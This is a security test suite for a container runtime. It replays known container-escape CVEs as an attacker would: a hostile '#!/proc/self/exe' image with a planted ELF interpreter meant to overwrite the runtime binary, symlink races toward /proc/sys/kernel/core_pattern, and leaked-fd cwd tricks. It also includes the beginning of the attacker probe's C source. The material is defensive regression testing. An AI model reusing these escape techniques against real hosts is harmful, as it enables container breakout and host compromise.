#!/usr/bin/env bats
# Escape classes (issue 6): known container breakouts, each played against the runtime as the
# attacker would. A test fails on a runtime without the defence that docs/security.md names
# for it; the attack must have been carried out (its traces are checked) for a pass to count.
#
#   own_rootfs      a private copy of $ROOTFS as the bundle's rootfs, in $ROOT
#   own_runtime     a private copy of the runtime binary: an attack that works spoils the copy,
#                   not the build ($RUNTIME; its sha256 in $RUNTIME_SHA)
#   require_probe   the attacker's programs, built static (skip without a static libc):
#                   $PROBE (race, hold, swap) and $EVIL_INTERP (a hostile ELF interpreter)
#   canary          an empty directory beside the rootfs ($CANARY), the target of every
#                   symlink planted here; assert_canary_untouched checks it stayed empty, and
#                   that no mount was made on it (host, and init before pivot_root through the
#                   createRuntime hook of record_init_mounts)
#   start_swapper A B   exchange A and B (renameat2 RENAME_EXCHANGE) in the background

load helpers
load container

setup_file() {
	# the probes are built once; a test that needs them skips when they are missing
	local dir=$BATS_FILE_TMPDIR/probe
	mkdir -p "$dir"
	probe_source >"$dir/probe.c"
	interp_source >"$dir/interp.c"
	gcc -static -O2 -o "$dir/probe" "$dir/probe.c" >"$dir/build.log" 2>&1 || true
	gcc -static -nostdlib -fno-stack-protector -fno-pie -no-pie -O2 -o "$dir/interp" \
		"$dir/interp.c" >>"$dir/build.log" 2>&1 || true
	gcc -static -nostdlib -fno-stack-protector -fno-pie -no-pie -O2 -DSTAY -o "$dir/interp-stay" \
		"$dir/interp.c" >>"$dir/build.log" 2>&1 || true
}

setup() {
	require_engine
	ctr_bundle
	PROBE=$BATS_FILE_TMPDIR/probe/probe
	EVIL_INTERP=$BATS_FILE_TMPDIR/probe/interp
	EVIL_INTERP_STAY=$BATS_FILE_TMPDIR/probe/interp-stay
	PF_PIDS=()
}

teardown() {
	local p
	stop_swapper
	for p in "${PF_PIDS[@]}"; do
		kill -KILL "$p" 2>/dev/null || true
		wait "$p" 2>/dev/null || true
	done
	[[ -z ${PF_NAME:-} ]] || "$RUNTIME" delete --force "$PF_NAME" >/dev/null 2>&1 || true
	ctr_cleanup
}

require_probe() {
	[[ -x $PROBE ]] || skip "the attacker probes need gcc -static ($(tail -1 "$BATS_FILE_TMPDIR/probe/build.log" 2>/dev/null))"
}

own_rootfs() {
	ROOT=$BATS_TEST_TMPDIR/rootfs
	mkdir "$ROOT"
	cp -a "$ROOTFS/." "$ROOT/"
	ln -sfn "$ROOT" "$BUNDLE/rootfs"
}

own_runtime() {
	mkdir -p "$BATS_TEST_TMPDIR/bin"
	cp "$RUNTIME" "$BATS_TEST_TMPDIR/bin/pflask-runtime"
	RUNTIME=$BATS_TEST_TMPDIR/bin/pflask-runtime
	RUNTIME_SHA=$(sha256sum <"$RUNTIME")
}

assert_runtime_intact() {
	[ "$(sha256sum <"$RUNTIME")" = "$RUNTIME_SHA" ] || {
		echo "the runtime binary was changed from inside the container" >&2
		return 1
	}
}

canary() {
	CANARY=$BATS_TEST_TMPDIR/canary
	mkdir -p "$CANARY"
	touch -d @1000000000 "$CANARY"
}

# A createRuntime hook copies init's mountinfo (before pivot_root, so mounts outside the
# rootfs still show) into $INIT_MOUNTS.
record_init_mounts() {
	INIT_MOUNTS=$BATS_TEST_TMPDIR/init-mounts
	cat >"$BATS_TEST_TMPDIR/record-mounts" <<-EOF
	#!/bin/sh
	pid=\$(sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
	cat /proc/\$pid/mountinfo >>"$INIT_MOUNTS"
	EOF
	chmod +x "$BATS_TEST_TMPDIR/record-mounts"
	config_edit "c.setdefault('hooks', {})['createRuntime'] = [{'path': '$BATS_TEST_TMPDIR/record-mounts'}]"
}

assert_canary_untouched() {
	local found
	found=$(find "$CANARY" -mindepth 1 2>/dev/null | head -5)
	[[ -z $found ]] || { echo "created outside the rootfs: $found" >&2; return 1; }
	[ "$(stat -c %Y "$CANARY")" = 1000000000 ] || { echo "$CANARY was changed" >&2; return 1; }
	! awk '{print $5}' /proc/self/mountinfo | grep -q "^$CANARY" ||
		{ echo "a mount on $CANARY on the host" >&2; return 1; }
	if [[ -n ${INIT_MOUNTS:-} && -e $INIT_MOUNTS ]]; then
		! awk '{print $5}' "$INIT_MOUNTS" | grep -q "^$CANARY" ||
			{ echo "init mounted on $CANARY" >&2; return 1; }
	fi
}

start_swapper() {
	"$PROBE" swap "$1" "$2" 120 >/dev/null &
	SWAPPER=$!
}

stop_swapper() {
	if [[ -n ${SWAPPER:-} ]]; then
		kill "$SWAPPER" 2>/dev/null || true
		wait "$SWAPPER" 2>/dev/null || true
		SWAPPER=
	fi
}

# The default config without its /dev mounts: the image's own /dev is what the container gets.
image_dev() {
	config_edit 'c["mounts"] = [m for m in c["mounts"] if m["destination"] not in ("/dev", "/dev/shm", "/dev/mqueue")]'
}

# The ELF interpreter the runtime binary asks for (PT_INTERP), empty for a static binary.
elf_interp() {
	/usr/bin/python3 - "$1" <<'PY'
import struct, sys
data = open(sys.argv[1], "rb").read()
if data[:4] != b"\x7fELF" or data[4] != 2:
    sys.exit(0)
phoff, = struct.unpack_from("<Q", data, 0x20)
phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
for i in range(phnum):
    off = phoff + i * phentsize
    ptype, = struct.unpack_from("<I", data, off)
    if ptype == 3:
        o, = struct.unpack_from("<Q", data, off + 8)
        size, = struct.unpack_from("<Q", data, off + 32)
        print(data[o:o + size].rstrip(b"\0").decode())
PY
}

# ---- CVE-2019-5736: the runtime binary overwritten through /proc/PID/exe ---------------------

# The image's /bin/sh is "#!/proc/self/exe": whatever runtime process executes it runs the
# runtime's own binary again, inside the container. The image also brings the ELF interpreter
# that binary asks for: it runs first in that process, keeps /proc/self/exe open (O_PATH) and
# has $PROBE reopen it for writing once no runtime process keeps the binary busy.
hostile_exe_image() {
	own_rootfs
	own_runtime
	plant_hostile_interp "$RUNTIME" "$EVIL_INTERP"
	config_edit 'c["root"]["readonly"] = False'
}

# plant_hostile_interp BINARY EVIL: $ROOT's /bin/sh becomes "#!/proc/self/exe", and EVIL the
# ELF interpreter BINARY asks for, beside $PROBE as /probe.
plant_hostile_interp() {
	[[ -x $2 ]] || skip "the hostile ELF interpreter is written for x86_64 and aarch64"
	local interp
	interp=$(elf_interp "$1")
	[[ -n $interp ]] || skip "a static binary needs no interpreter (the race test covers it)"
	mkdir -p "$ROOT$(dirname "$interp")"
	rm -f "$ROOT$interp"
	cp "$2" "$ROOT$interp"
	cp "$PROBE" "$ROOT/probe"
	rm "$ROOT/bin/sh"
	printf '#!/proc/self/exe\n' >"$ROOT/bin/sh"
	chmod 755 "$ROOT/bin/sh"
}

# wait_hold_log N: until N outcomes are logged by the hold processes (each gives up in 10 s).
wait_hold_log() {
	local i
	for i in $(seq 120); do
		[[ $(wc -l <"$ROOT/tmp/hold.log" 2>/dev/null || echo 0) -ge $1 ]] && return 0
		sleep 0.1
	done
}

@test "CVE-2019-5736: a hostile image cannot write the runtime binary through #!/proc/self/exe (exec)" {
	require_probe
	hostile_exe_image
	config_edit 'c["process"]["args"] = ["/bin/busybox", "sleep", "60"]'
	rt run -d --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	local i
	for i in $(seq 10); do
		rt exec "$CID" sh -c true </dev/null >/dev/null 2>&1 || true
	done
	wait_hold_log 10
	cat "$ROOT/tmp/hold.log"
	# the exploit ran: the interpreter was started in a process whose exe is the runtime's
	[ "$(grep -c . "$ROOT/tmp/hold.log")" -ge 1 ]
	refute_grep BREACH "$ROOT/tmp/hold.log"
	assert_runtime_intact
}

@test "CVE-2019-5736: a hostile image cannot write the runtime binary through #!/proc/self/exe (start)" {
	require_probe
	hostile_exe_image
	config_edit 'c["process"]["args"] = ["sh"]'
	rt_detached run -d --bundle "$BUNDLE" "$CID"
	wait_hold_log 1
	cat "$ROOT/tmp/hold.log"
	[ "$(grep -c . "$ROOT/tmp/hold.log")" -ge 1 ]
	refute_grep BREACH "$ROOT/tmp/hold.log"
	assert_runtime_intact
}

@test "CVE-2019-5736: pflask killed while a process of its container holds pflask's binary" {
	require_probe
	own_rootfs
	mkdir -p "$BATS_TEST_TMPDIR/bin"
	cp "$PFLASK" "$BATS_TEST_TMPDIR/bin/pflask"
	local pf=$BATS_TEST_TMPDIR/bin/pflask sha i
	sha=$(sha256sum <"$pf")
	plant_hostile_interp "$pf" "$EVIL_INTERP_STAY"
	# no pid namespace: a process of the container can outlive init, and pflask
	PF_NAME=pfsec-$$
	"$pf" -P --name="$PF_NAME" --chroot="$ROOT" -- /bin/sh </dev/null >/dev/null 2>&1 3>&- &
	PF_PIDS+=("$!")
	for i in $(seq 100); do
		[[ -e $ROOT/tmp/hold.log.started ]] && break
		sleep 0.1
	done
	[[ -e $ROOT/tmp/hold.log.started ]]
	# the exploit runs in a process whose exe was pflask's; pflask goes, the holder stays
	kill -KILL "${PF_PIDS[0]}"
	wait_hold_log 1
	cat "$ROOT/tmp/hold.log"
	[ "$(grep -c . "$ROOT/tmp/hold.log")" -ge 1 ]
	refute_grep BREACH "$ROOT/tmp/hold.log"
	[ "$(sha256sum <"$pf")" = "$sha" ] || {
		echo "pflask's binary was changed from inside the container" >&2
		return 1
	}
}

# exec_race CAPS...: $PROBE race as the container's process while 100 execs come and go.
exec_race() {
	own_rootfs
	own_runtime
	cp "$PROBE" "$ROOT/probe"
	local cap
	for cap in "$@"; do
		config_edit "[c['process']['capabilities'][k].append('$cap') for k in ('bounding', 'effective', 'permitted')]"
	done
	config_edit 'c["process"]["args"] = ["/probe", "race", "8"]'
	rt run -d --bundle "$BUNDLE" "$CID" </dev/null >"$BATS_TEST_TMPDIR/race.out" 2>&1
	local i
	for i in $(seq 100); do
		rt exec "$CID" true </dev/null >/dev/null 2>&1 || true
	done
	for i in $(seq 100); do
		grep -q '^race:' "$BATS_TEST_TMPDIR/race.out" && break
		sleep 0.1
	done
	cat "$BATS_TEST_TMPDIR/race.out"
	grep -q '^race: [1-9]' "$BATS_TEST_TMPDIR/race.out"
	refute_grep BREACH "$BATS_TEST_TMPDIR/race.out"
	assert_runtime_intact
}

@test "CVE-2019-5736: during 100 execs no process the container sees opens to the runtime binary" {
	require_probe
	exec_race
}

@test "CVE-2019-5736: nor with CAP_SYS_PTRACE, which sees through non-dumpable processes" {
	require_probe
	exec_race CAP_SYS_PTRACE
}

# ---- CVE-2016-9962: the runtime's processes ptraced or opened before they are in ----------

@test "CVE-2016-9962: the parked init and exec's processes cannot be ptraced or opened from inside" {
	require_probe
	own_rootfs
	# the probe rewrites any runtime binary it manages to hold: only ever a copy
	own_runtime
	cp "$PROBE" "$ROOT/probe"
	config_edit 'c["process"]["args"] = ["sleep", "60"]'
	# created, not started: init is still the runtime, waiting on the exec fifo
	rt create --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	rt exec -d "$CID" /probe race 6 </dev/null >"$BATS_TEST_TMPDIR/race.out" 2>&1
	local i
	for i in $(seq 100); do
		rt exec "$CID" true </dev/null >/dev/null 2>&1 || true
	done
	for i in $(seq 100); do
		grep -q '^race:' "$BATS_TEST_TMPDIR/race.out" && break
		sleep 0.1
	done
	cat "$BATS_TEST_TMPDIR/race.out"
	grep -q '^race: [1-9]' "$BATS_TEST_TMPDIR/race.out"
	refute_grep BREACH "$BATS_TEST_TMPDIR/race.out"
	assert_runtime_intact
}

# ---- CVE-2024-21626: host fds and a cwd through /proc/self/fd/N ---------------------------

# rt_clean_fds ARGS...: rt with nothing open but stdio (bats itself leaks descriptors into
# what it runs; what init holds beyond that is the runtime's own doing).
rt_clean_fds() {
	(
		local fd
		for fd in $(ls /proc/$BASHPID/fd); do
			((fd > 2)) && eval "exec $fd>&-" 2>/dev/null
		done
		exec "$RUNTIME" --root "$STATE_ROOT" "$@"
	)
}

@test "CVE-2024-21626: the parked init holds no file or directory of the host" {
	config_edit 'c["process"]["args"] = ["sleep", "60"]'
	rt_clean_fds create --pid-file "$BATS_TEST_TMPDIR/pid" --bundle "$BUNDLE" "$CID" \
		</dev/null >/dev/null 2>"$BATS_TEST_TMPDIR/err"
	local pid fd target fifo
	pid=$(cat "$BATS_TEST_TMPDIR/pid")
	fifo=$STATE_ROOT/$CID/exec.fifo
	for fd in /proc/$pid/fd/*; do
		target=$(readlink "$fd")
		echo "${fd##*/} -> $target"
		# its stdio (given to create), the exec fifo (a FIFO: no way anywhere), and
		# descriptors that name no path
		case $target in
		/dev/null | "$BATS_TEST_TMPDIR/err" | "$fifo") ;;
		socket:* | pipe:* | anon_inode:*) ;;
		*) echo "init holds $target" >&2; return 1 ;;
		esac
		[ ! -d "$fd" ]
	done
	[ -p "$fifo" ]
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N never lands outside the rootfs" {
	local n
	for n in $(seq 3 24); do
		config_edit "c['process']['cwd'] = '/proc/self/fd/$n'"
		ctr_run sh -c 'pwd -P'
		echo "fd $n: $status $output"
		if [ "$status" -ne 0 ]; then
			# refused, in one clear line
			[[ $output == "pflask-runtime: "* ]]
			assert_no_leftovers
			continue
		fi
		# a directory outside the root has no name under it: getcwd says "(unreachable)"
		[[ $output == /* && $output != *unreachable* ]]
	done
	# a directory of the host that create's caller leaked to it
	canary
	for n in 7 8 9; do
		config_edit "c['process']['cwd'] = '/proc/self/fd/$n'"
		eval "ctr_run sh -c 'pwd -P' $n<\"\$CANARY\""
		echo "leaked fd $n: $status $output"
		[ "$status" -ne 0 ] || [[ $output == /* && $output != *unreachable* ]]
		[ "$status" -eq 0 ] || [[ $output == "pflask-runtime: "* ]]
	done
	assert_canary_untouched
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N never lands outside the rootfs" {
	config_edit 'c["process"]["args"] = ["sleep", "60"]'
	rt run -d --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	local n
	for n in $(seq 3 24); do
		run rt exec --cwd "/proc/self/fd/$n" "$CID" sh -c 'pwd -P'
		echo "fd $n: $status $output"
		if [ "$status" -ne 0 ]; then
			[[ $output == "pflask-runtime: exec $CID: "* ]]
			continue
		fi
		[[ $output == /* && $output != *unreachable* ]]
	done
	# a directory of the host that exec's caller leaked to it
	canary
	for n in 7 8 9; do
		eval "run rt exec --cwd /proc/self/fd/$n \"\$CID\" sh -c 'pwd -P' $n<\"\$CANARY\""
		echo "leaked fd $n: $status $output"
		[ "$status" -ne 0 ] || [[ $output == /* && $output != *unreachable* ]]
		[ "$status" -eq 0 ] || [[ $output == "pflask-runtime: exec $CID: "* ]]
	done
	assert_canary_untouched
}

# ---- symlinks in the rootfs ----------------------------------------------------------------

@test "CVE-2019-19921: /proc or /sys as a symlink in the rootfs is refused" {
	own_rootfs
	canary
	record_init_mounts
	mkdir -p "$ROOT/fake"
	local dir target
	for dir in proc sys; do
		for target in "$CANARY" ../canary /fake; do
			rm -rf "${ROOT:?}/$dir"
			ln -s "$target" "$ROOT/$dir"
			ctr_run true
			echo "/$dir -> $target: $status $output"
			[ "$status" -eq 1 ]
			[[ $output == *"/$dir in the rootfs is a symlink"* ]]
			assert_no_leftovers
		done
		rm "$ROOT/$dir"
		mkdir "$ROOT/$dir"
	done
	[ -z "$(ls -A "$ROOT/fake")" ]
	assert_canary_untouched
}

@test "CVE-2021-30465: mount destinations through symlinks out of the rootfs stay inside" {
	own_rootfs
	canary
	record_init_mounts
	mkdir -p "$BUNDLE/vol"
	echo data >"$BUNDLE/vol/file"
	ln -s "$CANARY" "$ROOT/abs"
	ln -s ../canary "$ROOT/rel"
	ln -s "$CANARY/file" "$ROOT/filelink"
	config_edit 'c["mounts"] += [
		{"destination": "/abs/tmp", "type": "tmpfs", "source": "tmpfs"},
		{"destination": "/rel/vol", "type": "bind", "source": "vol", "options": ["bind"]},
		{"destination": "/abs/sub/file", "type": "bind", "source": "vol/file", "options": ["bind"]},
		{"destination": "/filelink", "type": "bind", "source": "vol/file", "options": ["bind"]}]'
	ctr_run sh -c 'cat /rel/vol/file /filelink'
	echo "$output"
	[ "$status" -eq 0 ]
	[ "${lines[0]}" = data ]
	[ "${lines[1]}" = data ]
	[ -s "$INIT_MOUNTS" ]
	assert_canary_untouched
}

@test "CVE-2021-30465: a destination swapped with a symlink out of the rootfs during create stays inside (50 runs)" {
	require_probe
	own_rootfs
	canary
	record_init_mounts
	# a volume the attacker writes to from another container: its sub/ is a directory one
	# moment and a symlink out of the rootfs the next
	local vol=$BATS_TEST_TMPDIR/shared
	mkdir -p "$vol/sub" "$BUNDLE/data"
	ln -s "$CANARY" "$vol/link"
	config_edit "c['mounts'] += [
		{'destination': '/vol', 'type': 'bind', 'source': '$vol', 'options': ['rbind']},
		{'destination': '/vol/sub/tmp', 'type': 'tmpfs', 'source': 'tmpfs'},
		{'destination': '/vol/sub/data', 'type': 'bind', 'source': 'data', 'options': ['bind']}]"
	start_swapper "$vol/sub" "$vol/link"
	local i ok=0
	for i in $(seq 50); do
		ctr_run true
		[ "$status" -eq 0 ] && ok=$((ok + 1))
		[ "$status" -eq 0 ] || [[ $output == "pflask-runtime: "* ]]
	done
	stop_swapper
	echo "$ok of 50 ran"
	[ "$ok" -gt 0 ]
	[ -s "$INIT_MOUNTS" ]
	assert_canary_untouched
	assert_no_leftovers
}

@test "a /dev that is a symlink to a host directory gets nothing made there" {
	own_rootfs
	canary
	record_init_mounts
	rm -rf "$ROOT/dev"
	ln -s "$CANARY" "$ROOT/dev"
	# the default /dev: a tmpfs mounted on it
	ctr_run sh -c 'stat -c "%t:%T" /dev/null'
	echo "$status $output"
	[ "$status" -ne 0 ] || [ "$output" = 1:3 ]
	assert_canary_untouched
	assert_no_leftovers
	# the image's own /dev, the devices made in it
	image_dev
	config_edit 'c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/dev/pts"]; c["linux"]["devices"] = [{"path": "/dev/null", "type": "c", "major": 1, "minor": 3}, {"path": "/dev/fuse", "type": "c", "major": 10, "minor": 229}]'
	ctr_run sh -c 'stat -c "%t:%T" /dev/fuse'
	echo "$status $output"
	[ "$status" -ne 0 ] || [ "$output" = a:e5 ]
	assert_canary_untouched
	assert_no_leftovers
}

@test "CVE-2025-31133: a /dev/null that is not the null device is never bound over masked paths" {
	own_rootfs
	canary
	record_init_mounts
	image_dev
	local core
	core=$(cat /proc/sys/kernel/core_pattern)
	for kind in core_pattern canary file; do
		rm -f "$ROOT/dev/null"
		case $kind in
		core_pattern) ln -s /proc/sys/kernel/core_pattern "$ROOT/dev/null" ;;
		canary) ln -s "$CANARY/null" "$ROOT/dev/null" ;;
		file) echo not-null >"$ROOT/dev/null" ;;
		esac
		ctr_run sh -c 'stat -c "%t:%T" /proc/keys /proc/timer_list'
		echo "$kind: $status $output"
		if [ "$status" -eq 0 ]; then
			[ "${lines[0]}" = 1:3 ]
			[ "${lines[1]}" = 1:3 ]
		else
			[[ $output == "pflask-runtime: "* ]]
		fi
		assert_no_leftovers
	done
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$core" ]
	assert_canary_untouched
}

@test "CVE-2025-31133: /dev/null swapped with a symlink during create never unmasks (50 runs)" {
	require_probe
	own_rootfs
	image_dev
	mknod -m 666 "$ROOT/dev/null" c 1 3
	ln -s /proc/sys/kernel/core_pattern "$ROOT/dev/evil"
	start_swapper "$ROOT/dev/null" "$ROOT/dev/evil"
	config_edit 'c["process"]["args"] = ["sleep", "60"]'
	local i pid ran=0
	for i in $(seq 50); do
		rt_detached create --bundle "$BUNDLE" "$CID"
		if [ "$status" -ne 0 ]; then
			[[ $output == "pflask-runtime: "* ]]
			assert_no_leftovers
			continue
		fi
		ran=$((ran + 1))
		pid=$(state_field "$CID" pid)
		# every masked file is the null device, whatever /dev/null was at the time
		[ "$(stat -c %t:%T "/proc/$pid/root/proc/keys")" = 1:3 ]
		[ "$(stat -c %t:%T "/proc/$pid/root/proc/timer_list")" = 1:3 ]
		rt delete -f "$CID"
	done
	stop_swapper
	echo "$ran of 50 created"
	[ "$ran" -gt 0 ]
}

@test "CVE-2025-52565: /dev/console is bound from the pty itself, never from a path in the container" {
	require_cmd script
	own_rootfs
	image_dev
	# what binding "/dev/pts/N" by name would take: the image's /dev/pts are links to
	# core_pattern (its devpts is elsewhere, where its /dev/ptmx leads)
	config_edit 'c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/dev/pts"] + [{"destination": "/devpts", "type": "devpts", "source": "devpts", "options": ["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"]}]'
	rm -rf "$ROOT/dev/pts"
	mkdir -p "$ROOT/dev/pts"
	local n
	for n in $(seq 0 31); do
		ln -s /proc/sys/kernel/core_pattern "$ROOT/dev/pts/$n"
	done
	ln -s /devpts/ptmx "$ROOT/dev/ptmx"
	mknod -m 666 "$ROOT/dev/null" c 1 3
	cat >"$ROOT/check" <<-'EOF'
	#!/bin/sh
	stat -c %F:%t /dev/console
	awk '$5 == "/dev/console" { for (i = 7; i < NF; i++) if ($i == "-") print $(i + 1) }' /proc/self/mountinfo
	EOF
	chmod 755 "$ROOT/check"
	config_edit 'c["process"]["terminal"] = True; c["process"]["args"] = ["/check"]'
	run script -qec "'$RUNTIME' --root '$STATE_ROOT' run --bundle '$BUNDLE' '$CID'" /dev/null
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *"character special file:88"* ]]
	[ "$(echo "$output" | tr -d '\r' | tail -1)" = devpts ]
}

@test "CVE-2025-52881: a sysctl is written to procfs or fails, never into an image's fake /proc" {
	own_rootfs
	config_edit 'c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/proc"]; c["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}'
	mkdir -p "$ROOT/proc/sys/net/ipv4"
	echo 0 >"$ROOT/proc/sys/net/ipv4/ip_forward"
	ctr_run true
	echo "$output"
	[ "$status" -eq 1 ]
	[[ $output == "pflask-runtime: "*sysctl* ]]
	[ "$(cat "$ROOT/proc/sys/net/ipv4/ip_forward")" = 0 ]
	assert_no_leftovers
}

@test "CVE-2025-52881: an image's fake /proc cannot keep capabilities or the caller's groups" {
	require_cmd setpriv
	own_rootfs
	config_edit 'c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/proc"]; c["process"]["noNewPrivileges"] = False; c["process"]["args"] = ["sleep", "60"]'
	mkdir -p "$ROOT/proc/sys/kernel" "$ROOT/proc/self"
	echo 1 >"$ROOT/proc/sys/kernel/cap_last_cap"
	echo deny >"$ROOT/proc/self/setgroups"
	setpriv --groups 6,27 "$RUNTIME" --root "$STATE_ROOT" run -d --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	local pid
	pid=$(state_field "$CID" pid)
	grep -E 'Cap|Groups' "/proc/$pid/status"
	# the config's bounding set: CAP_AUDIT_WRITE, CAP_KILL, CAP_NET_BIND_SERVICE
	grep -q $'^CapBnd:\t0000000020000420$' "/proc/$pid/status"
	grep -q $'^CapEff:\t0000000020000420$' "/proc/$pid/status"
	grep -Eq '^Groups:[[:space:]]*$' "/proc/$pid/status"
}

@test "CVE-2025-52881: a mount destination that resolves into /proc is refused" {
	own_rootfs
	ln -s /proc/sys "$ROOT/pfdata"
	config_edit 'c["mounts"].append({"destination": "/pfdata/net", "type": "tmpfs", "source": "tmpfs"}); c["linux"]["sysctl"] = {"net.ipv4.ip_forward": "1"}'
	ctr_run cat /proc/sys/net/ipv4/ip_forward
	echo "$output"
	[ "$status" -eq 1 ]
	[[ $output == *"/pfdata/net resolves to a place inside /proc"* ]]
	assert_no_leftovers
}

# ---- process, capabilities, read-only and masked paths, devices -----------------------------

@test "CVE-2022-29162: exec --cap never reaches the inheritable or ambient sets" {
	own_rootfs
	# a program with inheritable file capabilities: a process gets them only when they are
	# in its own inheritable set (or ambient), which --cap must never fill
	# (busybox picks its applet by name: this copy is grep)
	mkdir -p "$ROOT/opt/cap"
	cp "$ROOT/bin/busybox" "$ROOT/opt/cap/grep"
	/usr/bin/python3 - "$ROOT/opt/cap/grep" <<'PY'
import os, struct, sys
# vfs_cap_data revision 2, effective bit; permitted 0, inheritable CAP_NET_RAW|CAP_SYS_ADMIN
inh = (1 << 13) | (1 << 21)
os.setxattr(sys.argv[1], "security.capability",
            struct.pack("<IIIII", 0x02000001, 0, inh, 0, 0))
PY
	config_edit 'c["process"]["args"] = ["sleep", "60"]'
	rt run -d --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	run rt exec -u 1000:1000 --cap CAP_SYS_ADMIN --cap CAP_NET_RAW "$CID" /opt/cap/grep ^Cap /proc/self/status
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *"CapInh:	0000000000000000"* ]]
	[[ $output == *"CapPrm:	0000000000000000"* ]]
	[[ $output == *"CapEff:	0000000000000000"* ]]
	[[ $output == *"CapAmb:	0000000000000000"* ]]
}

@test "/sys, /proc/sys and /proc/sysrq-trigger are read-only and cannot be remounted" {
	own_rootfs
	local sysrq=0
	[[ -e /proc/sysrq-trigger ]] && sysrq=1
	cat >"$ROOT/check" <<-'EOF'
	#!/bin/sh
	h=$(cat /proc/sys/kernel/hostname)
	(echo "$h" > /proc/sys/kernel/hostname) 2>&1
	mkdir /sys/fs/pflask-probe 2>&1
	mount -o remount,rw /proc/sys 2>&1 || echo remount-refused
	mount -o remount,rw /sys 2>&1 || echo remount-refused
	awk '$5 == "/sys" || $5 == "/proc/sys" || $5 == "/proc/sysrq-trigger" {print $5, $6}' /proc/self/mountinfo
	[ -e /proc/sysrq-trigger ] || exit 0
	# "h" only prints the help, should this ever get through
	(echo h > /proc/sysrq-trigger) 2>&1
	mount -o remount,bind,rw /proc/sysrq-trigger 2>&1 || echo remount-refused
	EOF
	chmod 755 "$ROOT/check"
	ctr_run /check
	echo "$output"
	[ "$(echo "$output" | grep -c 'Read-only file system')" -eq $((2 + sysrq)) ]
	[ "$(echo "$output" | grep -c remount-refused)" -eq $((2 + sysrq)) ]
	[[ $output == *"/sys ro,"* ]]
	[[ $output == *"/proc/sys ro,"* ]]
	[ "$sysrq" -eq 0 ] || [[ $output == *"/proc/sysrq-trigger ro,"* ]]
}

@test "masked paths cannot be unmounted, nor a fresh procfs mounted around them" {
	own_rootfs
	cat >"$ROOT/check" <<-'EOF'
	#!/bin/sh
	for p in /proc/keys /proc/timer_list /proc/acpi /sys/firmware /proc/kcore; do
		[ -e "$p" ] || continue
		umount "$p" 2>/dev/null && echo "unmounted $p"
		umount -l "$p" 2>/dev/null && echo "unmounted $p"
	done
	mount -t proc proc /root 2>/dev/null && echo "fresh procfs"
	stat -c %t:%T /proc/keys /proc/timer_list
	find /proc/acpi /sys/firmware -mindepth 1 2>/dev/null | wc -l
	EOF
	chmod 755 "$ROOT/check"
	ctr_run /check
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output != *unmounted* ]]
	[[ $output != *"fresh procfs"* ]]
	[ "${lines[0]}" = 1:3 ]
	[ "${lines[1]}" = 1:3 ]
	[ "${lines[2]}" = 0 ]
}

# The feature probe: on v1 (hybrid hosts) the container's devices.list shows the rules; a
# build without them leaves "a *:* rwm" there. (v2 has no such file: its rules are BPF.)
device_rules_missing() {
	local dir
	dir=$(cgroup_dirs_of "$CID" | grep '/devices/' | head -1)
	[[ -n $dir && -r $dir/devices.list ]] && grep -qx 'a \*:\* rwm' "$dir/devices.list"
}

@test "the device cgroup denies a device the config does not allow" {
	own_rootfs
	config_edit '[c["process"]["capabilities"][k].append("CAP_MKNOD") for k in ("bounding", "effective", "permitted")]; c["process"]["args"] = ["sleep", "60"]; c["root"]["readonly"] = False'
	rt run -d --bundle "$BUNDLE" "$CID" </dev/null >/dev/null
	# the first disk and the host's memory: nodes may be made (mknod is allowed, as in
	# runc), never opened
	run rt exec "$CID" sh -c 'mknod /tmp/sda b 8 0 && mknod /tmp/mem c 1 1 && echo made; head -c1 /tmp/sda; head -c1 /tmp/mem; echo end'
	echo "$output"
	[[ $output == *made* ]]
	if [ "$(echo "$output" | grep -c 'Operation not permitted')" -ne 2 ]; then
		device_rules_missing && skip "device cgroup rules not applied by this build"
		return 1
	fi
}

# ---- the attacker's programs -----------------------------------------------------------------

probe_source() {
	cat <<'EOF'
/* The attacker's side of security.bats, run inside the container (and, for swap, on the
 * host). Static, so any rootfs can run it. Every mode prints BREACH lines for what it got. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* A file this process reaches by that name in its own root: one of the container's. */
static int in_root(const char *name, const struct stat *st)
{
	struct stat here;

	return stat(name, &here) == 0 && here.st_dev == st->st_dev && here.st_ino == st->st_ino;
}

static struct { int fd, pid; dev_t dev; ino_t ino; } held[MAX_HELD];
static int n_held;
static long breaches;

static void breach(const char *what, int pid, const char *detail)
{
	printf("BREACH %s pid %d %s\n", what, pid, detail);
	breaches++;
}

/* O_PATH on the exe of a process that is not the container's own: keep it for later. */
static void grab_exe(int pid, int fd)
{
	char path[64], link[512];
	struct stat st;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = '\0';
	/* no name: it exited meanwhile, and what the fd is cannot be told */
	if (n <= 0 || fstat(fd, &st) < 0 || n_held >= MAX_HELD || in_root(link, &st)) {
		close(fd);
		return;
	}
	for (int i = 0; i < n_held; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) {
			close(fd);
			return;
		}
	printf("held the exe of pid %d: %s\n", pid, link);
	held[n_held].fd = fd;
	held[n_held].pid = pid;
	held[n_held].dev = st.st_dev;
